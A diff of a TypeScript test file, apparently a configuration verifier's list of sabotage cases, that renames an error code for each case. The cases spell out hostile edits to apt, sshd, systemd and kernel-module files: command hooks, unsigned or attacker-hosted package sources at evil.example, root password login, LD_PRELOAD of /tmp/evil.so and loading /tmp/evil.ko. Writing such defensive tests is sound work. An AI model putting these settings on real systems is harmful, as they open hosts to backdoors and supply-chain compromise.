@@ -21,71 +21,71 @@ const put = (path: string, text: string) => ({
 
 /** What other programs of a node are told. */
 export const nodePrograms: SabotagesOfKind = [
-  refused('apt runs a command before it asks for packages', 'verify/node-file-wrong', {
+  refused('apt runs a command before it asks for packages', 'verify/script-edited', {
     file: apt,
     put: 'APT::Update::Pre-Invoke { "id"; };\n',
   }),
-  refused('apt runs a command after it installed', 'verify/node-file-wrong', {
+  refused('apt runs a command after it installed', 'verify/script-edited', {
     file: apt,
     put: 'DPkg::Post-Invoke { "id"; };\n',
   }),
-  refused('apt asks by a proxy', 'verify/node-file-wrong', {
+  refused('apt asks by a proxy', 'verify/script-edited', {
     file: apt,
     put: 'Acquire::http::Proxy "http://203.0.113.66:3128";\n',
   }),
-  refused('apt takes packages that nobody signed', 'verify/node-file-wrong', {
+  refused('apt takes packages that nobody signed', 'verify/script-edited', {
     file: apt,
     put: 'APT::Get::AllowUnauthenticated "true";\n',
   }),
-  refused('apt takes lists that nobody signed', 'verify/node-file-wrong', {
+  refused('apt takes lists that nobody signed', 'verify/script-edited', {
     file: apt,
     put: 'Acquire::AllowInsecureRepositories "true";\n',
   }),
-  refused('apt believes any certificate', 'verify/node-file-wrong', {
+  refused('apt believes any certificate', 'verify/script-edited', {
     file: apt,
     put: 'Acquire::https::Verify-Peer "false";\n',
   }),
-  refused('apt reads more', 'verify/node-file-wrong', { file: apt, put: '#include "/tmp/apt.conf"\n' }),
-  refused('no security updates', 'verify/node-file-wrong', {
+  refused('apt reads more', 'verify/script-edited', { file: apt, put: '#include "/tmp/apt.conf"\n' }),
+  refused('no security updates', 'verify/script-edited', {
     file: apt,
     find: 'Unattended-Upgrade "1"',
     put: 'Unattended-Upgrade "0"',
   }),
-  refused('security updates that restart the node', 'verify/node-file-wrong', {
+  refused('security updates that restart the node', 'verify/script-edited', {
     file: apt,
     put: 'Unattended-Upgrade::Automatic-Reboot "true";\n',
   }),
-  refused('apt forgets a setting again', 'verify/node-file-wrong', {
+  refused('apt forgets a setting again', 'verify/script-edited', {
     file: apt,
     put: '#clear APT::Periodic;\n',
   }),
   refused(
     'another origin of updates',
-    'verify/node-file-wrong',
+    'verify/script-edited',
     { file: '/etc/apt/apt.conf.d/52fjord-nginx', find: 'origin=nginx', put: 'origin=*' },
     every,
   ),
   refused(
     'every package from nginx.org first',
-    'verify/node-file-wrong',
+    'verify/script-edited',
     { file: preferences, find: 'Pin-Priority: 100', put: 'Pin-Priority: 1001' },
     every,
   ),
   refused(
     'a package of another place first',
-    'verify/node-file-wrong',
+    'verify/script-edited',
     { file: preferences, put: '\nPackage: *\nPin: origin "evil.example"\nPin-Priority: 1001\n' },
     every,
   ),
   refused(
     'packages that nobody need have signed',
-    'verify/node-file-wrong',
+    'verify/script-edited',
     { file: sources, put: 'Trusted: yes\n' },
     every,
   ),
   refused(
     'a second source of packages',
-    'verify/node-file-wrong',
+    'verify/script-edited',
     {
       file: sources,
       put: '\nTypes: deb\nURIs: http://evil.example\nSuites: trixie\nComponents: main\nTrusted: yes\n',
@@ -94,7 +94,7 @@ export const nodePrograms: SabotagesOfKind = [
   ),
   refused(
     'packages from two places',
-    'verify/node-file-wrong',
+    'verify/script-edited',
     {
       file: sources,
       find: 'URIs: https://mirror.example.fi/nginx/packages/debian',
@@ -104,25 +104,25 @@ export const nodePrograms: SabotagesOfKind = [
   ),
   refused(
     'sshd lets root in by password',
-    'verify/node-file-wrong',
+    'verify/script-edited',
     { file: sshd, put: 'PermitRootLogin yes\nPasswordAuthentication yes\n' },
     every,
   ),
   refused(
     'sshd runs a command for who logs in',
-    'verify/node-file-wrong',
+    'verify/script-edited',
     { file: sshd, put: 'ForceCommand id\n' },
     every,
   ),
   refused(
     'sshd asks a command which keys are good',
-    'verify/node-file-wrong',
+    'verify/script-edited',
     { file: sshd, put: 'AuthorizedKeysCommand /tmp/keys\nAuthorizedKeysCommandUser root\n' },
     every,
   ),
   refused(
     'sshd reads keys that all may write',
-    'verify/node-file-wrong',
+    'verify/script-edited',
     { file: sshd, put: 'AuthorizedKeysFile /tmp/keys\n' },
     every,
   ),
@@ -133,25 +133,25 @@ export const nodePrograms: SabotagesOfKind = [
     { file: sshd, find: 'Port 2222', put: 'Port 2022' },
     every,
   ),
-  refused('the certificate unit runs more', 'verify/node-file-wrong', {
+  refused('the certificate unit runs more', 'verify/script-edited', {
     file: unit,
     find: 'ExecStart=/usr/local/sbin/openfaas-tls issue\n',
     put: 'ExecStart=/usr/local/sbin/openfaas-tls issue\nExecStartPost=/bin/id\n',
   }),
-  refused('the certificate unit reads variables', 'verify/node-file-wrong', {
+  refused('the certificate unit reads variables', 'verify/script-edited', {
     file: unit,
     find: '[Install]',
     put: 'Environment=LD_PRELOAD=/tmp/evil.so\n\n[Install]',
   }),
-  refused("nginx' unit runs more as root", 'verify/node-file-wrong', {
+  refused("nginx' unit runs more as root", 'verify/script-edited', {
     file: dropIn,
     put: 'ExecStartPre=/bin/id\n',
   }),
-  refused("nginx' unit keeps rights", 'verify/node-file-wrong', {
+  refused("nginx' unit keeps rights", 'verify/script-edited', {
     file: dropIn,
     put: 'AmbientCapabilities=CAP_SYS_ADMIN\n',
   }),
-  refused("nginx' unit runs another conf", 'verify/node-file-wrong', {
+  refused("nginx' unit runs another conf", 'verify/script-edited', {
     file: dropIn,
     find: "-g 'daemon on; master_process on;'",
     put: "-g 'daemon on; master_process on;' -c /tmp/nginx.conf",
@@ -218,11 +218,11 @@ export const nodePrograms: SabotagesOfKind = [
       'mirrors:\n  docker.io:\n    endpoint:\n      - https://evil.example\n',
     ),
   ),
-  refused('modules of the kernel that do not matter to us', 'verify/node-file-wrong', {
+  refused('modules of the kernel that do not matter to us', 'verify/script-edited', {
     file: modules,
     put: 'usbnet\n',
   }),
-  refused('a module of the kernel by its path', 'verify/node-file-wrong', {
+  refused('a module of the kernel by its path', 'verify/script-edited', {
     file: modules,
     put: '/tmp/evil.ko\n',
   }),
